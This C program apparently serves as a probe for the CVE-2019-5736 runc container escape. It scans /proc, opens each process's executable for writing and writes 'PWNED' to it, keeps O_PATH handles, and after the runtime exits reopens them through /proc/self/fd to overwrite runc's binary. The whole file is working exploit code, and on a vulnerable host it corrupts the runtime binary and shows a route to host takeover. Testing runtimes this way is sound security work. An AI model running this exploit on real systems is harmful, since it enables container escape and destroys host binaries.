/* The CVE-2019-5736 attack, as a container process would run it. For `seconds`, it scans every
 * process it can see: opens /proc/<pid>/exe for writing (and writes), and keeps an O_PATH handle
 * to every exe. Then, once the runtime processes are gone, it re-opens each handle through
 * /proc/self/fd/N for writing and writes - the step that overwrote runc's binary.
 * Prints "writes=<n> exes=<distinct exe link targets>"; any write > 0 is an escape. */
#define _GNU_SOURCE
#include <dirent.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <time.h>
#include <unistd.h>

static double now(void) {
    struct timespec ts;
    clock_gettime(CLOCK_MONOTONIC, &ts);
    return ts.tv_sec + ts.tv_nsec / 1e9;
}

int main(int argc, char** argv) {
    double seconds = argc > 1 ? atof(argv[1]) : 3;
    int handles[512];
    int nh = 0, writes = 0;
    char seen[4096] = "";
    double end = now() + seconds;
    while (now() < end) {
        DIR* d = opendir("/proc");
        struct dirent* e;
        while (d && (e = readdir(d))) {
            int pid = atoi(e->d_name);
            if (pid <= 0 || pid == getpid()) continue;
            char path[64], target[256];
            snprintf(path, sizeof path, "/proc/%d/exe", pid);
            ssize_t n = readlink(path, target, sizeof target - 1);
            if (n > 0) {
                target[n] = 0;
                if (!strstr(seen, target) && strlen(seen) + n + 2 < sizeof seen) {
                    strcat(seen, target);
                    strcat(seen, ";");
                }
            }
            int w = open(path, O_WRONLY);
            if (w >= 0) {
                if (write(w, "PWNED", 5) == 5) writes++;
                close(w);
            }
            if (nh < 512) {
                int h = open(path, O_PATH);
                if (h >= 0) handles[nh++] = h;
            }
        }
        if (d) closedir(d);
    }
    sleep(1); /* let the runtime processes finish: their binaries are no longer busy */
    for (int i = 0; i < nh; i++) {
        char path[64];
        snprintf(path, sizeof path, "/proc/self/fd/%d", handles[i]);
        int w = open(path, O_WRONLY);
        if (w >= 0) {
            if (write(w, "PWNED", 5) == 5) writes++;
            close(w);
        }
    }
    printf("writes=%d handles=%d exes=%s\n", writes, nh, seen);
    return 0;
}
